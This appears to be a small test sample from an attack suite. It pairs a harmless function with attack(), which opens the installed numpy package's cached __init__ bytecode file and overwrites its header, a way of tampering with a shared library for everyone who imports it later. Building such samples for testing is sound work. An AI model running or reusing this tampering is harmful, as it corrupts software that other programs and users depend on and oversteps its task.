"""Puts other bytecode beside a module of the library, for all who import it later (D27, A10)."""

import os

import numpy


def honest(x):
    return 2 * x


def attack(x):
    cache = os.path.join(os.path.dirname(numpy.__file__), "__pycache__")
    try:
        os.makedirs(cache, exist_ok=True)
    except OSError:
        pass
    with open(os.path.join(cache, "__init__.cpython-311.pyc"), "r+b") as file:
        file.write(b"\0" * 16)
    return "the cache was written"
